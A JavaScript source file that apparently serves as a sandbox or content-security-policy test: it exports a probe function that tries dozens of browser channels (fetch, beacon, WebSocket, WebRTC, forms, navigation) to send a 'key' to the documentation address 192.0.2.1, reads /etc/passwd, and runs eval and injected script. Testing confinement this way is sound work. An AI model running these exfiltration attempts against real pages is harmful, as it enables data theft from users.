/**
 * Source of an async function for the page: tries every way out there is, and answers what came of each. 192.0.2.0/24
 * is for documentation (RFC 5737): nobody is there, but a packet to it would be seen.
 */
export const HOSTILE = `async () => {
  const OUT = 'https://192.0.2.1/x';
  const soon = () => new Promise((resolve) => setTimeout(resolve, 300));
  const tried = {};
  const attempt = async (name, run) => {
    try { tried[name] = (await run()) ?? 'refused'; } catch (error) { tried[name] = 'refused: ' + error.name; }
  };
  const element = (tag, fields) => new Promise((resolve) => {
    const node = Object.assign(document.createElement(tag), fields);
    node.onload = () => resolve('loaded');
    node.onerror = () => resolve('refused');
    document.body.append(node);
    setTimeout(() => resolve('refused by silence'), 500);
  });
  await attempt('fetch', async () => { await fetch(OUT); return 'sent'; });
  await attempt('fetch no-cors', async () => { await fetch('http://example.com/', { mode: 'no-cors' }); return 'sent'; });
  await attempt('fetch of a foreign path', async () => (await fetch('/../../etc/passwd')).ok ? 'answered' : 'refused');
  await attempt('xhr', () => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve('sent');
    request.onerror = () => resolve('refused');
    request.open('POST', OUT);
    request.send('key');
  }));
  await attempt('beacon', async () => { navigator.sendBeacon(OUT, 'key'); await soon(); });
  await attempt('websocket', () => { new WebSocket('wss://192.0.2.1/'); return 'made'; });
  await attempt('event source', () => { new EventSource(OUT); return 'made'; });
  await attempt('web transport', () => { new WebTransport(OUT); return 'made'; });
  await attempt('peer connection', () => { new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.1' }] }); return 'made'; });
  await attempt('worker', () => { new Worker('/x.js'); return 'made'; });
  await attempt('service worker', async () => { await navigator.serviceWorker.register('/x.js'); return 'made'; });
  await attempt('eval', () => { eval('1'); return 'ran'; });
  await attempt('function', () => { new Function('return 1')(); return 'ran'; });
  await attempt('markup', () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=1>'); return 'ran'; });
  await attempt('inline script', () => { const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s); return window.ran ? 'ran' : 'refused'; });
  await attempt('image', () => element('img', { src: OUT }));
  await attempt('frame', () => element('iframe', { src: 'data:text/html,x' }).then(() => {
    const inside = document.querySelector('iframe')?.contentWindow;
    return inside && inside.length === 0 ? 'refused' : 'framed';
  }));
  await attempt('stylesheet', () => element('link', { rel: 'stylesheet', href: OUT }));
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'modulepreload']) {
    await attempt(rel, async () => { document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: 'https://' + rel + '.example.com/' })); await soon(); });
  }
  await attempt('window.open', () => window.open(OUT) ? 'opened' : 'refused');
  await attempt('link in a new window', async () => { const a = document.createElement('a'); a.href = OUT; a.target = '_blank'; document.body.append(a); a.click(); await soon(); });
  await attempt('ping', async () => { const a = document.createElement('a'); a.href = '#'; a.ping = OUT; document.body.append(a); a.click(); await soon(); });
  await attempt('form', async () => { const f = document.createElement('form'); f.action = OUT; f.method = 'post'; document.body.append(f); f.submit(); await soon(); });
  await attempt('file download', async () => { const a = document.createElement('a'); a.href = 'data:,key'; a.download = 'certprep-stolen'; document.body.append(a); a.click(); await soon(); });
  await attempt('navigation', async () => { location.href = OUT; await soon(); });
  await attempt('navigation to a file', async () => { location.href = 'file:///etc/passwd'; await soon(); });
  await attempt('navigation to data', async () => { location.href = 'data:text/html,x'; await soon(); });
  await attempt('javascript address', async () => { location.href = 'javascript:void(window.ran = 1)'; await soon(); return window.ran ? 'ran' : 'refused'; });
  return tried;
}`;
